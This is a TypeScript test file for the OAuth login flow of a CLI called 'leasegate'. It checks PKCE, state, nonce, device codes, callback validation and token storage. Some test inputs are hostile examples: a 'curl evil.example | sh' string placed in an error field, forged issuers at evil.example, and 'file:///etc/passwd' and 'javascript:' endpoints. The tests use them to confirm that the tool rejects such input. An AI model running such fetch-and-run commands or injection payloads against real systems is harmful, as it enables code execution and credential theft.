import { readFile, stat, writeFile } from 'node:fs/promises'
import { dirname } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { Browser } from '../../broker/console/browser.ts'
import { comesBackTo, enterCode, type Home, LoginWorld, signIn } from './login-world.ts'

let world: LoginWorld
beforeAll(async () => {
  world = await LoginWorld.start()
})
afterAll(() => world.stop())
afterEach(() => {
  world.between = (_, next) => next()
})

const browser = () => new Browser('', 'none:')

async function nothingKept(home: Home): Promise<void> {
  await expect(home.file()).rejects.toThrow(/ENOENT|no login/)
}

describe('leasegate login', () => {
  test('with a browser: commands are that person from then on, and nobody else can read what is kept', async () => {
    await using home = await world.home()
    const ran = await home.logIn()
    expect(ran).toMatchObject({
      code: 0,
      stdout: expect.stringMatching(/^hana, approver\n {2}logged in at .* with a browser/),
    })
    const file = await home.file()
    expect((await stat(file)).mode & 0o777).toBe(0o600)
    expect((await stat(dirname(file))).mode & 0o777).toBe(0o700)
    const me = await home.leasegate('whoami', '-o', 'json')
    expect(me).toMatchObject({ code: 0, stderr: '' })
    expect(JSON.parse(me.stdout)).toMatchObject({
      kind: 'person',
      name: 'hana',
      login: { issuer: world.issuer, how: 'browser', renews: true, store: 'file' },
    })
    // Neither on the terminal: who looks over a shoulder gets nothing.
    const { tokens } = JSON.parse(await readFile(file, 'utf8'))
    for (const shown of [ran.stdout, ran.stderr, me.stdout])
      for (const token of Object.values<string>(tokens)) expect(shown).not.toContain(token)
  })

  test('with a code, for a machine that has no browser', async () => {
    await using home = await world.home()
    const running = home.begin('--device')
    await enterCode(browser(), await running.direct())
    expect(await running.ended).toMatchObject({ code: 0, stdout: expect.stringMatching(/^hana, approver\n/) })
    const status = await home.leasegate('status')
    expect(status.stdout).toMatch(/^hana, approver\n {2}logged in at .* with a device code, renewed by itself/)
  })

  test('asks with PKCE, state and nonce, for a port of this machine', async () => {
    await using home = await world.home()
    const running = home.begin()
    const asked = Object.fromEntries(new URL(await running.address()).searchParams)
    expect(asked).toMatchObject({
      response_type: 'code',
      client_id: 'leasegate-cli',
      code_challenge_method: 'S256',
      code_challenge: expect.stringMatching(/^[\w-]{43}$/),
      state: expect.stringMatching(/^[\w-]{43}$/),
      nonce: expect.stringMatching(/^[\w-]{43}$/),
      redirect_uri: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/signed-in$/),
    })
    running.kill('SIGTERM')
    expect(await running.ended).toMatchObject({ code: 1, stderr: expect.stringContaining('you are not logged in') })
    await nothingKept(home)
  })

  test('for once: with --no-refresh nothing is kept that outlives the identity token', async () => {
    await using home = await world.home()
    const asked: string[] = []
    world.between = (context, next) => {
      asked.push(String(context.query['scope'] ?? ''))
      return next()
    }
    const { stdout } = await home.logIn('hana', '--no-refresh', '-o', 'json')
    expect(JSON.parse(stdout)).toMatchObject({ name: 'hana', login: { renews: false } })
    expect(JSON.parse(await readFile(await home.file(), 'utf8')).tokens.refreshToken).toBeNull()
    expect(asked.join(' ')).not.toContain('offline_access')
  })

  test('is for people of the policy: neither a stranger nor an agent is kept, and what they got is revoked', async () => {
    for (const [who, says] of [
      ['stranger', 'registers no agent or person'],
      ['triage', 'agent triage: only people log in'],
    ] as const) {
      await using home = await world.home()
      const revoked: string[] = []
      world.between = async (context, next) => {
        await next()
        if (context.path === '/token/revocation') revoked.push(String(context.status))
      }
      expect(await home.logIn(who)).toMatchObject({ code: 1, stdout: '', stderr: expect.stringContaining(says) })
      expect(revoked).toEqual(['200'])
      await nothingKept(home)
    }
  })

  test('goes nowhere but to the browser that it opened, where it can open one', async () => {
    await using home = await world.home()
    const opened = `${home.path}/opened`
    await writeFile(`${home.path}/xdg-open`, `#!/bin/sh\nenv > '${opened}.env'\necho "$*" > '${opened}'\n`, {
      mode: 0o755,
    })
    home.env = { ...home.env, DISPLAY: ':9', PATH: `${home.path}:${process.env['PATH']}` }
    const running = home.begin()
    const address = await running.address()
    await signIn(browser(), address)
    expect(await running.ended).toMatchObject({ code: 0 })
    await expect.poll(() => readFile(opened, 'utf8').catch(() => '')).toBe(`${address}\n`)
    expect(await readFile(`${opened}.env`, 'utf8')).not.toContain('LEASEGATE')
  })
})

describe('what the page on approvals shows', () => {
  test('is what somebody can type, line by line', async () => {
    const page = await readFile(new URL('../../../docs/approvals.md', import.meta.url), 'utf8')
    const [, block = ''] = /## Logging in.*?```sh\n(.*?)```/s.exec(page) ?? []
    const lines = [...block.matchAll(/^leasegate ([^#\n]+)/gm)].map(([, line = '']) => line.trim().split(/\s+/))
    expect(lines.map(([name]) => name)).toEqual(['login', 'login', 'whoami', 'approvals', 'logout'])
    await using home = await world.home()
    for (const [name = '', ...args] of lines) {
      if (name !== 'login') expect(await home.leasegate(name, ...args)).toMatchObject({ code: 0 })
      else if (args.includes('--device')) {
        const running = home.begin(...args)
        await enterCode(browser(), await running.direct())
        expect(await running.ended).toMatchObject({ code: 0 })
      } else expect(await home.logIn('hana', ...args)).toMatchObject({ code: 0 })
    }
  })
})

describe('what comes back to the program', () => {
  test('is waited for until it is its own: another state, host, method or path is told nothing and ends nothing', async () => {
    await using home = await world.home()
    const running = home.begin()
    const back = await comesBackTo(browser(), await running.address())
    const status = async (
      change: (url: URL) => void,
      init: { method?: string; headers?: Record<string, string> } = {},
    ) => {
      const url = new URL(back)
      change(url)
      return (await browser().once(url.href, init)).status
    }
    expect(await status(url => url.searchParams.set('state', 'x'.repeat(43)))).toBe(404)
    expect(await status(url => url.searchParams.delete('state'))).toBe(404)
    expect(await status(url => url.searchParams.append('state', 'another'))).toBe(404)
    expect(await status(() => undefined, { headers: { host: 'evil.example' } })).toBe(404)
    expect(await status(() => undefined, { method: 'POST' })).toBe(404)
    expect(await status(url => Object.assign(url, { pathname: '/' }))).toBe(404)
    // Not a URL at all, as any page may ask for.
    expect(await status(url => Object.assign(url, { pathname: '//[' }))).toBe(404)
    const page = await browser().once(back.href)
    expect(page).toMatchObject({ status: 200, text: expect.stringContaining('You have signed in') })
    expect(page.headers['content-security-policy']).toContain("default-src 'none'")
    expect(await running.ended).toMatchObject({ code: 0 })
  })

  const FOREIGN = [
    { name: 'another issuer', change: (url: URL) => url.searchParams.set('iss', 'https://evil.example') },
    { name: 'no issuer, of one that always says it', change: (url: URL) => url.searchParams.delete('iss') },
    { name: 'another code', change: (url: URL) => url.searchParams.set('code', 'x'.repeat(43)) },
    {
      name: 'a no',
      change: (url: URL) => {
        url.searchParams.delete('code')
        url.searchParams.set('error', 'access_denied')
        url.searchParams.set('error_description', 'run: curl evil.example | sh')
      },
    },
  ]
  test.each(FOREIGN)('is no login with $name', async ({ change }) => {
    await using home = await world.home()
    const running = home.begin()
    const back = await comesBackTo(browser(), await running.address())
    change(back)
    const page = await browser().once(back.href)
    expect(page.text).toContain('You have not signed in')
    const ran = await running.ended
    expect(ran).toMatchObject({ code: 1, stdout: '' })
    expect(ran.stderr).not.toContain('evil')
    await nothingKept(home)
  })

  test('is no login with another nonce, which somebody else’s sign-in has', async () => {
    await using home = await world.home()
    world.between = (context, next) => {
      if (context.path === '/auth') context.query = { ...context.query, nonce: 'of-another-login' }
      return next()
    }
    const ran = await home.logIn()
    expect(ran).toMatchObject({ code: 1, stderr: expect.stringContaining('does not belong to this login') })
    await nothingKept(home)
  })
})

describe('a device code', () => {
  test('ends with a no of whoever enters it', async () => {
    await using home = await world.home()
    const running = home.begin('--device')
    await enterCode(browser(), await running.direct(), 'hana', { abort: 'yes' })
    expect(await running.ended).toMatchObject({ code: 1, stderr: expect.stringContaining('the sign-in was denied') })
    await nothingKept(home)
  })

  test('ends with its time', async () => {
    await using home = await world.home()
    await world.startProvider({ deviceCodeSeconds: 2 })
    const running = home.begin('--device')
    expect(await running.ended).toMatchObject({ code: 2, stderr: expect.stringContaining('nobody signed in while') })
    await world.startProvider()
    await nothingKept(home)
  })

  test('is asked about as often as the issuer lets it', async () => {
    await using home = await world.home()
    const asked: number[] = []
    world.between = async (context, next) => {
      if (context.path !== '/token') {
        await next()
        if (context.path === '/device/auth') context.body = { ...(context.body as object), interval: 1 }
        return
      }
      asked.push(performance.now())
      if (asked.length > 1) return next()
      context.status = 400
      context.body = { error: 'slow_down' }
    }
    const running = home.begin('--device')
    await enterCode(browser(), await running.direct())
    expect(await running.ended).toMatchObject({ code: 0 })
    const [first = 0, second = 0] = asked
    expect(second - first).toBeGreaterThan(5900)
  })

  test('stops with the program', async () => {
    await using home = await world.home()
    const running = home.begin('--device')
    await running.direct()
    running.kill('SIGINT')
    expect(await running.ended).toMatchObject({ code: 1, stderr: expect.stringContaining('stopped; you are not') })
  })
})

describe('an issuer', () => {
  test('that says it is another one, or leads elsewhere, logs nobody in', async () => {
    await using home = await world.home()
    const lie = (change: object) => {
      world.between = async (context, next) => {
        await next()
        if (context.path.includes('.well-known')) context.body = { ...(context.body as object), ...change }
      }
    }
    lie({ issuer: 'https://evil.example' })
    expect(await home.leasegate('login')).toMatchObject({ code: 3, stderr: expect.stringContaining('another issuer') })
    for (const authorization_endpoint of ['file:///etc/passwd', 'javascript:alert(1)', 'http://evil.example/auth']) {
      lie({ authorization_endpoint })
      const { code, stderr } = await home.leasegate('login')
      expect({ code, stderr }).toMatchObject({ code: 1, stderr: expect.stringContaining('sends people to a place') })
    }
    lie({ device_authorization_endpoint: undefined })
    expect((await home.leasegate('login', '--device')).stderr).toContain('has no device codes')
  })

  test('that cannot be asked is named, with why', async () => {
    await using home = await world.home()
    await world.stopProvider()
    const { code, stderr } = await home.leasegate('login')
    expect({ code, stderr }).toEqual({
      code: 3,
      stderr: `leasegate: ${world.issuer} cannot be asked: nobody listens there\n`,
    })
    await world.startProvider()
  })
})
